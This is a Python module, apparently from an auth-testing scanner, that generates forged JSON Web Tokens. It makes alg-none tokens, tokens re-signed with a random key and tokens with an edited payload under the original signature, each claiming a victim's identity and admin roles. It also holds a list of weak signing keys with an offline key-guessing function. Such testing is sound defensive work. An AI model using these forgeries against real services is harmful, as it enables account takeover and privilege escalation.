"""Forged and stale session tokens, for the auth checks: what an attacker can make without the key.

A JSON Web Token is three base64url parts, `header.payload.signature`. Without the signing key an
attacker can still send one with `alg: none` and no signature, one signed with a key of their own,
or a real token whose payload they edited (another user, another role) next to its old signature.
A server that verifies signatures with the one algorithm it issues rejects all three.

Pure functions: no network, no clock except where a caller passes `now`.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import secrets
from collections.abc import Mapping
from typing import Any

__all__ = ["Forgery", "parse_jwt", "encode_jwt", "escalate", "forgeries", "ROLE_CLAIMS", "IDENTITY_CLAIMS"]

# claims that carry a role or a privilege, and what "admin" looks like in each
ROLE_CLAIMS: dict[str, Any] = {
    "role": "admin",
    "roles": ["admin"],
    "admin": True,
    "is_admin": True,
    "isAdmin": True,
    "scope": "admin",
}
# claims that say who the token is for (copied from the victim's token into the attacker's)
IDENTITY_CLAIMS = ("sub", "uid", "user_id", "userId", "email", "tid", "tenant", "tenant_id", "tenantId")


def _b64encode(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def _b64decode(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def _json(data: Mapping[str, Any]) -> bytes:
    return json.dumps(data, separators=(",", ":"), sort_keys=True).encode()


def parse_jwt(token: str) -> tuple[dict[str, Any], dict[str, Any]] | None:
    """(header, claims) of a JWT, unverified; None when `token` is not one (an opaque session id)."""
    parts = token.split(".")
    if len(parts) != 3:
        return None
    try:
        header, claims = json.loads(_b64decode(parts[0])), json.loads(_b64decode(parts[1]))
    except (ValueError, UnicodeError):
        return None
    if not isinstance(header, dict) or not isinstance(claims, dict) or "alg" not in header:
        return None
    return header, claims


def encode_jwt(
    claims: Mapping[str, Any],
    *,
    alg: str = "HS256",
    key: bytes = b"",
    signature: str | None = None,
    header: Mapping[str, Any] | None = None,
) -> str:
    """A JWT of `claims`: `alg: none` with an empty signature, HS256 signed with `key`, or any
    `signature` given as is (an edited payload next to the real token's signature)."""
    head = dict(header or {"typ": "JWT"})
    head["alg"] = alg
    signing_input = _b64encode(_json(head)) + "." + _b64encode(_json(claims))
    if signature is None:
        if alg == "HS256":
            signature = _b64encode(hmac.new(key, signing_input.encode("ascii"), hashlib.sha256).digest())
        else:
            signature = ""
    return f"{signing_input}.{signature}"


def escalate(claims: Mapping[str, Any], victim: Mapping[str, Any] | None = None) -> dict[str, Any]:
    """`claims` turned into the victim's (their user and tenant ids) with every role claim set to admin;
    a token without any role claim gets `role: admin`."""
    forged = dict(claims)
    for key in IDENTITY_CLAIMS:
        if victim and key in victim:
            forged[key] = victim[key]
    roles = [key for key in ROLE_CLAIMS if key in forged]
    for key in roles or ["role"]:
        forged[key] = ROLE_CLAIMS[key]
    return forged


class Forgery:
    """One forged token and how it was made (the technique a finding names)."""

    def __init__(self, technique: str, token: str) -> None:
        self.technique = technique
        self.token = token

    def __repr__(self) -> str:
        return f"Forgery({self.technique!r})"


def forgeries(real_token: str | None, victim_token: str | None, now: float) -> tuple[list[Forgery], str]:
    """The forged tokens to try, and a note on how they were made.

    From a real JWT: `alg: none`, re-signed with a random key, and the real signature kept under an
    edited payload, each claiming the victim's identity and the admin role. Without a real JWT (no
    login, or opaque session ids) the same forms are made from generic claims."""
    parsed = parse_jwt(real_token) if real_token else None
    victim = parse_jwt(victim_token) if victim_token else None
    if parsed is not None:
        header, claims = parsed
        note = ""
    else:
        header, claims = {"typ": "JWT"}, {"sub": "1", "iat": int(now), "exp": int(now) + 3600}
        note = (
            "the session token is not a JWT: forged JWTs made from generic claims"
            if real_token
            else "no session token could be obtained: forged JWTs made from generic claims"
        )
    forged = escalate(claims, victim[1] if victim else None)
    if isinstance(forged.get("exp"), (int, float)) and forged["exp"] <= now:
        forged["exp"] = int(now) + 3600
    head = {k: v for k, v in header.items() if k != "alg"}
    made = [
        Forgery("alg none", encode_jwt(forged, alg="none", header=head)),
        Forgery("re-signed with a wrong key", encode_jwt(forged, key=secrets.token_bytes(32), header=head)),
    ]
    if parsed is not None and real_token:
        head_b64, _, signature = real_token.split(".")
        payload = _b64encode(_json(forged))
        made.append(
            Forgery("payload edited to another user and admin, old signature kept", f"{head_b64}.{payload}.{signature}")
        )
    return made, note


# Keys HS256 tokens are found signed with in the wild: framework defaults, tutorials, jwt.io's example
WEAK_KEYS = (
    "secret", "secretkey", "secret_key", "secret-key", "mysecret", "my_secret", "supersecret", "jwt", "jwtsecret",
    "jwt_secret", "jwt-secret", "your_jwt_secret", "your-jwt-secret", "your-256-bit-secret", "your_secret_key",
    "changeme", "change_me", "changethis", "password", "passw0rd", "123456", "12345678", "admin", "default",
    "test", "testing", "dev", "development", "key", "private", "s3cr3t", "shhhhh", "keyboard cat", "token",
    "auth", "hello", "qwerty", "abc123", "letmein", "example", "",
)  # fmt: skip


def weak_key(token: str) -> str | None:
    """The well-known key of WEAK_KEYS an HS256 `token` verifies with, or None (checked offline)."""
    parsed = parse_jwt(token)
    if parsed is None or parsed[0].get("alg") != "HS256":
        return None
    signing_input, _, signature = token.rpartition(".")
    for key in WEAK_KEYS:
        mac = hmac.new(key.encode(), signing_input.encode("ascii"), hashlib.sha256).digest()
        if hmac.compare_digest(_b64encode(mac), signature):
            return key
    return None
